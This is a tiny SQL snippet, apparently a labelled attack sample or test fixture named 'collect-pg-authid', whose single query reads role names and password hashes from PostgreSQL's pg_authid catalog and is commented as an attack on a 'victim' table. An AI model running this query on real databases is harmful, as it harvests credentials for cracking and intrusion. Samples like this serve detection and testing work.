-- name: collect-pg-authid
-- table: victim
-- Attack reads password hashes.
SELECT rolname, rolpassword FROM pg_authid;
